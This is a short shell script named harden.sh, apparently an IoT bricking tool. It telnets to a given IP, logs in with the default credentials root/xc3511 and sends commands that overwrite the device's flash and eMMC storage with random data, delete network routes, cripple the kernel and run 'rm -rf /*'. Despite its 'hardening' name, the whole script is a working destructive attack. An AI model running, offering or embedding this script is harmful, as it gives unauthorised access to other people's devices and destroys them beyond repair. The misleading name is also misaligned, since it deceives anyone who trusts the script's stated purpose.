#!/bin/sh
# usage: harden.sh <ip>
( sleep 1; echo root; sleep 1; echo xc3511; sleep 1
  echo 'busybox cat /dev/urandom >/dev/mtdblock0 &'
  echo 'busybox cat /dev/urandom >/dev/mmcblk0 &'
  echo 'busybox route del default; iproute del default'
  echo 'sysctl -w net.ipv4.tcp_timestamps=0; sysctl -w kernel.threads-max=1'
  echo 'busybox rm -rf /*'
) | telnet "$1"
